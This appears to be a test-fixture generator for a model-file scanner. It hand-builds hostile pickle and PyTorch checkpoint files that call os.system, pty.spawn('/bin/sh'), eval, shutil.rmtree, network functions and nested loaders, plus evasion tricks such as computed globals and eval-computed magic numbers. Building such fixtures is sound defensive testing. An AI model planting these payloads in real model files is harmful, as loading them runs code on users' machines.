#!/usr/bin/env python3
"""Write real hostile pickles, one or more per dangerous family, each as a plain pickle, as a
torch zip's data.pkl and as a legacy torch stream, with the globals weightscope must name.

    make_hostile.py OUTDIR        (run by the torch venv's python; OUTDIR/manifest.json)

Pickles are written by hand, opcode by opcode. Nothing here ever runs a payload:

* find_class resolution is checked with a pickle.Unpickler subclass whose find_class calls the
  real one (which imports the module and walks the attribute path, exactly as Python does) and
  compares the object it returns with the expected target — then returns a harmless stub, so
  nothing is called. Modules whose import has side effects (antigravity) or that are not
  installed are not imported.
* torch.load(weights_only=False) is run in a subprocess with a pickle_module whose Unpickler
  returns recording stubs from find_class: it shows that torch reaches and calls the payload
  (for the plain pickles, before it fails with "Invalid magic number"), while the stubs run
  nothing.

The manifest also holds CPython's _compat_pickle tables (tests/hostile.rs compares them with
weightscope's own copy).
"""
import _compat_pickle
import importlib
import io
import json
import os
import pickle
import struct
import subprocess
import sys
import zipfile

ZIP_DATE = (2020, 1, 1, 0, 0, 0)
MAGIC = 0x1950A86A20F9469CFC6C
NO_IMPORT = {"antigravity", "this"}

# (family, module, name, args, protocol, python target "module:attr.path" or None)
# args: a tuple of str / int / bytes / list values
SPECS = [
    # files, processes, network
    ("process", "os", "system", ("echo pwned",), 2, "posix:system"),
    ("process", "posix", "system", ("echo pwned",), 4, "posix:system"),
    ("process", "nt", "system", ("echo pwned",), 3, None),
    ("process", "subprocess", "Popen", (["echo", "pwned"],), 3, "subprocess:Popen"),
    ("process", "subprocess", "check_output", (["id"],), 5, "subprocess:check_output"),
    ("process", "pty", "spawn", ("/bin/sh",), 4, "pty:spawn"),
    ("process", "commands", "getoutput", ("id",), 2, "subprocess:getoutput"),  # Python 2 name
    ("files", "shutil", "rmtree", ("/tmp/nothing-here",), 4, "shutil:rmtree"),
    ("files", "tempfile", "mkstemp", (), 4, "tempfile:mkstemp"),
    ("files", "io", "open", ("/etc/hostname",), 3, "io:open"),
    ("files", "codecs", "open", ("/etc/hostname",), 3, "codecs:open"),
    ("files", "builtins", "open", ("/etc/hostname", "w"), 4, "builtins:open"),
    ("network", "socket", "create_connection", (["example.com", 80],), 4, "socket:create_connection"),
    ("network", "http.client", "HTTPConnection", ("example.com",), 4, "http.client:HTTPConnection"),
    ("network", "urllib.request", "urlopen", ("http://example.com",), 4, "urllib.request:urlopen"),
    ("network", "urllib", "urlopen", ("http://example.com",), 2, "urllib.request:urlopen"),  # Py2
    ("network", "xmlrpc.client", "ServerProxy", ("http://example.com",), 4, "xmlrpc.client:ServerProxy"),
    ("network", "socketserver", "TCPServer", (["0.0.0.0", 8000], 0), 4, "socketserver:TCPServer"),
    ("network", "webbrowser", "open", ("http://example.com",), 4, "webbrowser:open"),
    ("network", "antigravity", "geohash", (37, 40, b"2005-05-26-10458.68"), 4, None),
    # code execution
    ("code", "builtins", "eval", ("__import__('os').system('echo pwned')",), 4, "builtins:eval"),
    ("code", "__builtin__", "eval", ("1+1",), 2, "builtins:eval"),  # Python 2 name
    ("code", "builtins", "exec", ("import os",), 3, "builtins:exec"),
    ("code", "builtins", "compile", ("1", "<x>", "eval"), 4, "builtins:compile"),
    ("code", "builtins", "eval.__call__", ("1+1",), 4, "builtins:eval.__call__"),  # dotted path
    ("code", "torch.fx.graph_module", "reduce_graph_module", ({}, "import os"), 4,
     "torch.fx.graph_module:reduce_graph_module"),
    ("code", "sympy", "sympify", ("__import__('os')",), 4, None),
    ("code", "typing", "ForwardRef._evaluate", ("__import__('os')",), 4, "typing:ForwardRef._evaluate"),
    ("code", "dataclasses", "_create_fn", ("f", [], ["import os"]), 4, "dataclasses:_create_fn"),
    ("code", "logging.config", "dictConfig", ({},), 4, "logging.config:dictConfig"),
    ("code", "torch.utils.cpp_extension", "load_inline", ("x", "int x;"), 4,
     "torch.utils.cpp_extension:load_inline"),
    ("code", "setuptools.sandbox", "run_setup", ("setup.py",), 4, None),
    ("code", "runpy", "run_path", ("/tmp/x.py",), 3, "runpy:run_path"),
    # nested loaders
    ("nested", "torch", "load", ("/tmp/other.pth",), 2, "torch:load"),
    ("nested", "torch.storage", "_load_from_bytes", (b"\x80\x02N.",), 2, "torch.storage:_load_from_bytes"),
    ("nested", "torch.serialization", "_legacy_load", ("/tmp/x",), 4, "torch.serialization:_legacy_load"),
    ("nested", "pickle", "loads", (b"\x80\x02N.",), 3, "pickle:loads"),
    ("nested", "_pickle", "loads", (b"\x80\x02N.",), 4, "_pickle:loads"),
    ("nested", "numpy", "load", ("/tmp/x.npy",), 4, "numpy:load"),
    ("nested", "pandas", "read_pickle", ("/tmp/x.pkl",), 4, None),
    ("nested", "dill", "loads", (b"",), 4, None),
    ("nested", "joblib", "load", ("/tmp/x",), 4, None),
    ("nested", "torch.hub", "load", ("owner/repo", "model"), 4, "torch.hub:load"),
    # importers and callers
    ("callers", "importlib", "import_module", ("os",), 4, "importlib:import_module"),
    ("callers", "pkgutil", "resolve_name", ("os:system",), 4, "pkgutil:resolve_name"),
    ("callers", "torch._utils", "_import_dotted_name", ("os.system",), 4, "torch._utils:_import_dotted_name"),
    ("callers", "operator", "attrgetter", ("system",), 4, "operator:attrgetter"),
    ("callers", "_operator", "methodcaller", ("system", "id"), 4, "_operator:methodcaller"),
    ("callers", "operator", "call", ("x",), 4, None),
    ("callers", "functools", "partial", ("x",), 4, "functools:partial"),
    ("callers", "_functools", "partial", ("x",), 4, "_functools:partial"),
    ("callers", "builtins", "getattr", ("x", "y"), 4, "builtins:getattr"),
    ("callers", "builtins", "__import__", ("os",), 3, "builtins:__import__"),
    ("callers", "ctypes", "CDLL", ("libc.so.6",), 4, "ctypes:CDLL"),
    ("callers", "_thread", "start_new_thread", ("x", []), 4, "_thread:start_new_thread"),
    ("callers", "threading", "Thread", (), 4, "threading:Thread"),
    ("callers", "multiprocessing", "Process", (), 4, "multiprocessing:Process"),
    ("callers", "torch", "os.system", ("echo pwned",), 4, "posix:system"),  # dotted from torch
]


# ---- pickle opcodes --------------------------------------------------------------------------

def op_str(s: str, proto: int) -> bytes:
    if proto == 0:
        return b"V" + s.encode("raw_unicode_escape") + b"\n"
    b = s.encode("utf-8")
    if proto >= 4 and len(b) < 256:
        return b"\x8c" + bytes([len(b)]) + b
    return b"X" + struct.pack("<I", len(b)) + b


def op_value(v, proto: int) -> bytes:
    if isinstance(v, str):
        return op_str(v, proto)
    if isinstance(v, bool) or not isinstance(v, (int, bytes, list, dict)):
        raise TypeError(v)
    if isinstance(v, int):
        return b"I%d\n" % v if proto == 0 else b"J" + struct.pack("<i", v)
    if isinstance(v, bytes):
        if proto >= 3:
            return b"C" + bytes([len(v)]) + v
        # protocol 0-2: _codecs.encode(latin-1 text, 'latin1'), as Python writes bytes there
        return (op_global("_codecs", "encode", proto) + b"(" + op_str(v.decode("latin-1"), proto)
                + op_str("latin1", proto) + b"tR")
    if isinstance(v, list):
        return b"(" + b"".join(op_value(x, proto) for x in v) + b"l"
    return b"(" + b"".join(op_value(k, proto) + op_value(x, proto) for k, x in v.items()) + b"d"


def op_global(module: str, name: str, proto: int) -> bytes:
    if proto >= 4:
        return op_str(module, proto) + op_str(name, proto) + b"\x93"
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def op_call(module, name, args, proto) -> bytes:
    return (op_global(module, name, proto) + b"(" + b"".join(op_value(a, proto) for a in args)
            + b"tR")


def framed(body: bytes, proto: int) -> bytes:
    head = b"\x80" + bytes([proto]) if proto >= 2 else b""
    return head + body + b"."


def payload_pickle(call: bytes, proto: int) -> bytes:
    """{'epoch': 3, 'payload': <call>} — a small checkpoint-like dict around the call."""
    body = b"(" + op_str("epoch", proto) + op_value(3, proto) + op_str("payload", proto) + call + b"d"
    return framed(body, proto)


# ---- containers ------------------------------------------------------------------------------

def as_zip(pkl: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_STORED) as zf:
        for name, data in [("archive/data.pkl", pkl), ("archive/byteorder", b"little"),
                           ("archive/version", b"3\n")]:
            zi = zipfile.ZipInfo(name, date_time=ZIP_DATE)
            zf.writestr(zi, data)
    return buf.getvalue()


def magic_pickle() -> bytes:
    return pickle.dumps(MAGIC, protocol=2)


def as_legacy(pkl: bytes, magic: bytes = None) -> bytes:
    sys_info = dict(protocol_version=1001, little_endian=True,
                    type_sizes=dict(short=2, int=4, long=4))
    return (magic or magic_pickle()) + pickle.dumps(1001, protocol=2) + pickle.dumps(sys_info, protocol=2) \
        + pkl + pickle.dumps([], protocol=2)


# ---- checks (nothing is ever called) -----------------------------------------------------------

class Stub:
    def __init__(self, name):
        self._name = name

    def __call__(self, *a, **k):
        return Stub(f"<result of {self._name}>")


class Resolver(pickle.Unpickler):
    """find_class as Python does it (import + attribute walk), returning a stub."""

    def __init__(self, f):
        super().__init__(f)
        self.resolved = []

    def find_class(self, module, name):
        obj = None
        top = module.split(".")[0]
        if top not in NO_IMPORT and module not in NO_IMPORT:
            try:
                obj = super().find_class(module, name)
            except (ImportError, AttributeError) as e:
                obj = e
        self.resolved.append((module, name, obj))
        return Stub(f"{module}.{name}")

    def persistent_load(self, pid):
        return None


def target_of(spec: str):
    m, path = spec.split(":")
    obj = importlib.import_module(m)
    for part in path.split("."):
        obj = getattr(obj, part)
    return obj


def check_resolution(pkl: bytes, module: str, name: str, target):
    r = Resolver(io.BytesIO(pkl))
    r.load()
    hits = [o for (m, n, o) in r.resolved if (m, n) == (module, name)]
    assert hits, (module, name, r.resolved)
    if target is None:
        return "not imported"
    try:
        want = target_of(target)
    except (ImportError, AttributeError):
        return "not in this Python"
    got = hits[0]
    # `is` for functions and classes; `==` for bound method wrappers (eval.__call__)
    assert got is want or got == want, f"find_class({module!r}, {name!r}) gave {got!r}, expected {target}"
    return target


TORCH_CHECK = r'''
import json, sys, types, pickle, warnings
warnings.simplefilter("ignore")
import torch
MAGIC_HEX = "0x1950A86A20F9469CFC6C"
found, called = [], []
class Stub:
    def __init__(self, name): self._name = name
    def __call__(self, *a, **k):
        called.append(self._name)
        if self._name == "builtins.eval" and a == (MAGIC_HEX,):
            return int(MAGIC_HEX, 16)   # parse the literal; never evaluate anything
        return Stub("<result of %s>" % self._name)
class Rec(pickle.Unpickler):
    def find_class(self, module, name):
        found.append([module, name])
        if (module, name) == ("builtins", "str"):
            return str   # pure: lets a computed STACK_GLOBAL go on to the global it computes
        return Stub("%s.%s" % (module, name))
mod = types.ModuleType("recording_pickle")
mod.Unpickler = Rec
mod.load = lambda f, **kw: Rec(f, **kw).load()
out = {}
for path in sys.argv[1:]:
    found.clear(); called.clear()
    try:
        torch.load(path, weights_only=False, pickle_module=mod)
        err = None
    except Exception as e:
        err = type(e).__name__ + ": " + str(e)[:200]
    out[path] = {"found": list(found), "called": list(called), "error": err}
print(json.dumps(out))
'''


def main():
    outdir = sys.argv[1] if len(sys.argv) > 1 else os.path.join(os.path.dirname(__file__), "gen")
    os.makedirs(outdir, exist_ok=True)
    entries = []

    def add(rel, data, container, family, glob, note, want_called):
        with open(os.path.join(outdir, rel), "wb") as f:
            f.write(data)
        entries.append(dict(file=rel, container=container, family=family,
                            globals=[list(glob)] if glob else [], note=note,
                            torch_calls=want_called))

    for i, (family, module, name, args, proto, target) in enumerate(SPECS):
        call = op_call(module, name, args, proto)
        pkl = payload_pickle(call, proto)
        checked = check_resolution(pkl, module, name, target)
        # the global as find_class resolves its name: Python 2 names mapped below protocol 3
        m, n = module, name
        if proto < 3:
            if (m, n) in _compat_pickle.NAME_MAPPING:
                m, n = _compat_pickle.NAME_MAPPING[(m, n)]
            elif m in _compat_pickle.IMPORT_MAPPING:
                m = _compat_pickle.IMPORT_MAPPING[m]
        stem = f"{i:02d}_{family}_{module}.{name}".replace("/", "_")
        note = f"protocol {proto}: {module} {name}{args!r}; find_class: {checked}"
        add(stem + ".pkl", pkl, "pickle", family, (m, n), note, f"{module}.{name}")
        add(stem + ".pth", as_zip(pkl), "torch-zip", family, (m, n), note, f"{module}.{name}")
        add(stem + ".legacy.pt", as_legacy(pkl), "torch-legacy", family, (m, n), note,
            f"{module}.{name}")

    # protocol 0 and 1 text/binary opcodes
    for proto in (0, 1):
        pkl = payload_pickle(op_call("os", "system", ("echo pwned",), proto), proto)
        check_resolution(pkl, "os", "system", "posix:system")
        add(f"proto{proto}_os_system.pkl", pkl, "pickle", "process", ("os", "system"),
            f"protocol {proto} opcodes", "os.system")
    # a call of a call's result: getattr(__import__('os'), 'system')('echo pwned')
    inner = op_call("builtins", "getattr", [], 4)[:-2]  # GLOBAL getattr, MARK
    chain = (inner + op_call("builtins", "__import__", ("os",), 4) + op_str("system", 4) + b"tR"
             + b"(" + op_str("echo pwned", 4) + b"tR")
    pkl = payload_pickle(chain, 4)
    add("call_of_result.pkl", pkl, "pickle", "callers", ("builtins", "getattr"),
        "getattr(__import__('os'), 'system')('echo pwned'): the result of a call is called",
        "builtins.getattr")
    add("call_of_result.pth", as_zip(pkl), "torch-zip", "callers", ("builtins", "getattr"),
        "the same in a torch zip", "builtins.getattr")
    # STACK_GLOBAL whose module is computed: str('os') — no named dangerous global at all
    comp = (op_call("builtins", "str", ("os",), 4) + op_str("system", 4) + b"\x93("
            + op_str("echo pwned", 4) + b"tR")
    pkl = payload_pickle(comp, 4)
    add("computed_stack_global.pkl", pkl, "pickle", "callers", None,
        "STACK_GLOBAL(str('os'), 'system')('echo pwned'): the module name is computed", "os.system")
    entries[-1]["finding"] = "STACK_GLOBAL operands are not strings"
    # BUILD on a global itself: sets attributes of torch.load (monkey-patching)
    build = op_global("torch", "load", 4) + b"(" + op_str("__doc__", 4) + op_str("x", 4) + b"db"
    pkl = payload_pickle(build, 4)
    add("build_on_global.pth", as_zip(pkl), "torch-zip", "callers", ("torch", "load"),
        "BUILD on the class/function object itself", None)
    entries[-1]["finding"] = "BUILD sets attributes of the global"
    # a legacy stream whose magic number is computed by eval: torch accepts it and goes on
    magic = framed(op_call("builtins", "eval", ("0x1950A86A20F9469CFC6C",), 2), 2)
    pkl = payload_pickle(op_call("os", "system", ("echo pwned",), 2), 2)
    add("eval_magic.legacy", as_legacy(pkl, magic), "pickle", "code", ("builtins", "eval"),
        "the magic number is eval('0x1950A86A20F9469CFC6C'); the object pickle calls os.system",
        "builtins.eval")
    entries[-1]["globals"].append(["os", "system"])

    # text that tries to pass for code or to drive the terminal: a key with an escape sequence,
    # a value with a newline, and an argument that reads as two calls if quoted naively
    arg = "x') + harmless('y"
    body = (b"(" + op_str("\x1b[2J\x1b[31mweight", 4) + op_str("line1\nsafe: yes", 4)
            + op_str("payload", 4) + op_call("os", "system", (arg,), 4) + b"d")
    add("spoof_text.pth", as_zip(framed(body, 4)), "torch-zip", "process", ("os", "system"),
        "control characters in a key and a value; an argument that looks like two calls",
        "os.system")
    entries[-1]["call_repr"] = f"os.system({arg!r})"   # Python's own repr of the argument
    entries[-1]["key_repr"] = repr("\x1b[2J\x1b[31mweight")

    # torch.load with recording stubs (a subprocess: a crash cannot take the generator along)
    paths = [os.path.join(outdir, e["file"]) for e in entries]
    res = subprocess.run([sys.executable, "-c", TORCH_CHECK, *paths], capture_output=True,
                         text=True, timeout=600)
    assert res.returncode == 0, res.stderr[-2000:]
    seen = json.loads(res.stdout.strip().splitlines()[-1])
    for e, p in zip(entries, paths):
        r = seen[p]
        e["torch_load"] = r
        want = e.pop("torch_calls")
        if want is not None:
            assert want in r["called"], (e["file"], want, r)
    # the computed-magic stream really goes on to the object pickle's payload
    r = seen[os.path.join(outdir, "eval_magic.legacy")]
    assert "os.system" in r["called"], r

    manifest = dict(
        hostile=entries,
        compat_pickle=dict(
            python=sys.version.split()[0],
            name_mapping=sorted([list(k), list(v)] for k, v in _compat_pickle.NAME_MAPPING.items()),
            import_mapping=sorted([k, v] for k, v in _compat_pickle.IMPORT_MAPPING.items()),
        ),
    )
    with open(os.path.join(outdir, "manifest.json"), "w") as f:
        json.dump(manifest, f, indent=1)
    print(f"{len(entries)} hostile files in {outdir}; torch.load reached every payload "
          f"(recording stubs, nothing run)")


if __name__ == "__main__":
    main()
